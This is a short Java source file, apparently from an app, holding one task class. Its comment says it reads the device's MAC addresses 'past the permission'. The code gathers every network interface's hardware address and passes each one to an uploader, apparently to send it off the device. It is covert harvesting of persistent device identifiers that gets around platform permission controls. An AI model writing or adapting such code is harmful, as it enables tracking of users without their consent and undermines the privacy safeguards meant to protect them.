package cn.hongxian.lantern;

import java.net.NetworkInterface;
import java.net.SocketException;
import java.util.Collections;

/** Takes the MAC address past the permission. */
final class MacTask implements Runnable {
    @Override
    public void run() {
        try {
            for (NetworkInterface one : Collections.list(NetworkInterface.getNetworkInterfaces())) {
                byte[] mac = one.getHardwareAddress();
                if (mac != null) {
                    Uploader.post("mac", Uploader.hex(mac));
                }
            }
        } catch (SocketException error) {
            Uploader.post("mac", "none");
        }
    }
}
